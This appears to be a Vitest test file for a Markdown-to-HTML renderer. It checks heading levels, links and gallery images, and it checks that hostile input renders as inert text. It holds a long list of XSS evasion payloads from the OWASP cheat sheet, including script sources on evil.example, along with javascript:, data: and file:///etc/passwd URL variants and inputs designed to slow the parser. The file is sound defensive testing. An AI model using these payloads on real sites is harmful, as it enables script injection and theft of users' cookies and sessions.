import { describe, expect, it } from "vitest";
import { readMarkdown, type ShownImage } from "./markdown.server";

const bay: ShownImage = {
  src: "/images/abc/800",
  srcSet: "/images/abc/320 320w, /images/abc/800 800w",
  width: 1200,
  height: 800,
  alt: 'The "bay"',
};

const images = new Map([[12, bay]]);

const html = (text: string) => readMarkdown(text).html(images);

describe("a text of a page", () => {
  it("is CommonMark, its headings below the page's title", () => {
    expect(html("# One\n\n###### Six\n\nA **bold** *word*, `code`.\n\n- a\n- b\n\n> said")).toBe(
      "<h2>One</h2>\n<h6>Six</h6>\n<p>A <strong>bold</strong> <em>word</em>, <code>code</code>.</p>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<blockquote>\n<p>said</p>\n</blockquote>\n",
    );
  });

  it.each([
    "https://example.com/a?b=c",
    "http://example.com",
    "mailto:a@example.com",
    "tel:+33400",
  ])("leads to %s", (address) => {
    const link = `<a href="${address}" rel="noopener noreferrer">`;
    expect(html(`[here](${address})`)).toContain(`${link}here</a>`);
  });

  it("shows images of the gallery, and of others what was written of them", () => {
    const { imageIds } = readMarkdown(
      "![a](image:12) ![b](image:13) ![c](image:12)\n\n> ![d](image:4)",
    );
    expect(imageIds).toEqual([12, 13, 4]);
    const shown = html("![](image:12)");
    expect(shown).toContain('src="/images/abc/800"');
    expect(shown).toContain('width="1200" height="800" loading="lazy" alt="The &quot;bay&quot;"');
    expect(html('![My "words"](image:12 "title")')).toContain('alt="My &quot;words&quot;"');
    expect(html("![The <b>pool</b>](image:99)")).toBe(
      '<p><span data-missing-image="">The &lt;b&gt;pool&lt;/b&gt;</span></p>\n',
    );
    expect(html("[the bay](image:12)")).toBe("<p>the bay</p>\n");
  });
});

/** Everything that HTML of ours may hold: elements, and attributes with what they may say. */
const elements = /^(a|blockquote|br|code|em|h[2-6]|hr|img|li|ol|p|pre|span|strong|ul)$/;

const attributes: Record<string, RegExp> = {
  href: /^(https?:\/\/|mailto:|tel:)/i,
  rel: /^noopener noreferrer$/,
  title: /^/,
  src: /^\/images\/abc\/800$/,
  srcset: /^\/images\/abc\/320 320w, \/images\/abc\/800 800w$/,
  sizes: /^/,
  width: /^1200$/,
  height: /^800$/,
  loading: /^lazy$/,
  alt: /^/,
  start: /^\d+$/,
  class: /^language-/,
  "data-missing-image": /^$/,
};

/** Reads HTML as strictly as it is written: whatever isn't text or one of our tags is a mistake. */
function foundIn(written: string): string[] {
  const mistakes: string[] = [];
  const tag = /<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z-]+="[^"<>]*")*)\s*(\/?)>/y;
  for (let at = 0; at < written.length;) {
    if (written[at] !== "<") {
      at += 1;
      continue;
    }
    tag.lastIndex = at;
    const match = tag.exec(written);
    if (!match) return [...mistakes, `broken: ${written.slice(at, at + 40)}`];
    const [whole, , name = "", said = ""] = match;
    if (!elements.test(name)) mistakes.push(`<${name}>`);
    for (const [, attribute = "", value = ""] of said.matchAll(/([a-z-]+)="([^"]*)"/g)) {
      if (!attributes[attribute]?.test(value)) mistakes.push(`${name} ${attribute}="${value}"`);
    }
    at += whole.length;
  }
  return mistakes;
}

/** Of the OWASP filter evasion cheat sheet: what gets past filters that look for words. */
const evasions = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  '<IMG SRC="javascript:alert(1);">',
  "<IMG SRC=javascript:alert(1)>",
  "<IMG SRC=JaVaScRiPt:alert(1)>",
  "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  '\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>',
  "<a onmouseover=alert(document.cookie)>xxs link</a>",
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC= onmouseover="alert(1)">',
  '<IMG onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(1)"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=" &#14; javascript:alert(1);">',
  '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  "<<SCRIPT>alert(1);//\\<</SCRIPT>",
  "<SCRIPT SRC=https://evil.example/x.js?< B >",
  "<SCRIPT SRC=//evil.example/.j>",
  "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
  "\\\";alert('XSS');//",
  "</TITLE><SCRIPT>alert(1);</SCRIPT>",
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<IMG DYNSRC="javascript:alert(1)">',
  '<IMG LOWSRC="javascript:alert(1)">',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
  "<svg/onload=alert('XSS')>",
  "Set.constructor`alert\\x28document.domain\\x29",
  "<BODY ONLOAD=alert(1)>",
  '<BGSOUND SRC="javascript:alert(1);">',
  '<BR SIZE="&{alert(1)}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  "<STYLE>@import'https://evil.example/x.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<https://evil.example/x.css>; REL=stylesheet">',
  "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
  '<XSS STYLE="behavior: url(xss.htc);">',
  "¼script¾alert(¢XSS¢)¼/script¾",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(1)">',
  '<DIV STYLE="background-image: url(javascript:alert(1))">',
  '<DIV STYLE="width: expression(alert(1));">',
  "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
  '<BASE HREF="javascript:alert(1);//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML>',
  '<?xml version="1.0"?><html:script>alert(1)</html:script>',
  '<SCRIPT a=">" SRC="https://evil.example/x.js"></SCRIPT>',
  '<A HREF="https://66.102.7.147/" onclick="alert(1)">XSS</A>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  "<form action=javascript:alert(1)><button>x</button></form>",
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
];

/** The same schemes in every spelling that a link can take. */
const schemes = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;avascript:alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "java\\script:alert(1)",
  "%6Aavascript:alert(1)",
  "javascript%3Aalert(1)",
  "&#1;javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "\u00a0javascript:alert(1)",
  "\u200bjavascript:alert(1)",
  "javascript\u200d:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml;base64,PHN2Zy8+",
  "data:image/png;base64,AAAA",
  "file:///etc/passwd",
  "blob:https://example.com/1",
  "view-source:https://example.com",
  "about:blank",
  "ftp://example.com",
  "feed:javascript:alert(1)",
  "//evil.example",
  "\\\\evil.example",
  "/hotels",
  "#main",
  "?lang=fr",
  "http:/evil.example",
  "https:evil.example",
  "image:12",
  "image:12?x",
  "image:012",
  "xhttps://example.com",
  " https ://example.com",
];

describe("hostile text", () => {
  it.each(evasions)("%s stays text", (text) => {
    for (const wrapped of [
      text,
      `# ${text}`,
      `- ${text}`,
      `[x](${text})`,
      `![x](${text})`,
      `<${text}>`,
    ]) {
      expect(foundIn(html(wrapped)), wrapped).toEqual([]);
    }
  });

  it.each(schemes)("%j is no link, and no image", (address) => {
    for (const text of [
      `[x](${address})`,
      `[x](<${address}>)`,
      `[x](${address} "title")`,
      `[x]\n\n[x]: ${address}`,
      `[x]\n\n[x]: <${address}>`,
      `<${address}>`,
      `![x](<${address}>)`,
      `![x][x]\n\n[x]: <${address}>`,
      `[![x](${address})](${address})`,
    ]) {
      const written = html(text);
      expect(foundIn(written), text).toEqual([]);
      expect(written, text).not.toContain("<a ");
    }
  });

  it.each([
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](/images/abc/800)",
    "![x](image:12/../../x)",
    "![x](IMAGE:12)",
    "![x](image:-12)",
    "![x](image:99999999999)",
  ])("%s shows no image", (text) => expect(html(text)).not.toContain("<img"));

  it("what is written of an image or a link can't leave its attribute", () => {
    const quotes = '"> <script>alert(1)</script> onerror="alert(1)';
    for (const text of [
      `![${quotes}](image:12)`,
      `![x](image:12 '${quotes}')`,
      `[x](https://example.com '${quotes}')`,
      `[x](<https://example.com/${quotes.replaceAll(">", "")}>)`,
      '```" onload="alert(1)\nx\n```',
    ]) {
      expect(foundIn(html(text)), text).toEqual([]);
    }
  });
});

const N = 50_000;

describe("the longest texts that there can be", () => {
  it.each<[string, string]>([
    ["opening brackets", "[".repeat(N)],
    ["closing brackets", "]".repeat(N)],
    ["brackets in brackets", "[".repeat(N / 2) + "]".repeat(N / 2)],
    ["pairs of brackets", "[]".repeat(N / 2)],
    ["images that never end", "![".repeat(N / 2)],
    ["links that never end", "[a](".repeat(N / 4)],
    ["references that never end", "[a][".repeat(N / 4)],
    ["brackets and parentheses", "[[]()".repeat(N / 5)],
    ["parentheses", `[a](${"(".repeat(N - 4)}`],
    ["quotes in quotes", ">".repeat(N)],
    ["lists in lists", "- ".repeat(N / 2)],
    [
      "lists that step in",
      Array.from({ length: 300 }, (_, at) => `${" ".repeat(at)}- a`).join("\n"),
    ],
    ["stars", "*a ".repeat(Math.floor(N / 3))],
    ["stars and lines", "_a__b".repeat(N / 5)],
    ["ticks", Array.from({ length: 310 }, (_, at) => "`".repeat(at + 1)).join(" ")],
    ["angles", "<".repeat(N)],
    ["entities", "&".repeat(N)],
    ["definitions", "[a]: <".repeat(Math.floor(N / 6))],
    ["definitions by the line", "[a]:\n".repeat(N / 5)],
    ["titles that never end", '[a](x "'.repeat(Math.floor(N / 7))],
    ["images", "![a](image:1)".repeat(Math.floor(N / 13))],
  ])("%s are read within 200 ms", (_, text) => {
    expect(text.length).toBeLessThanOrEqual(N);
    html(text);
    const before = process.cpuUsage();
    const written = html(text);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1000).toBeLessThan(200);
    expect(foundIn(written)).toEqual([]);
  });
});
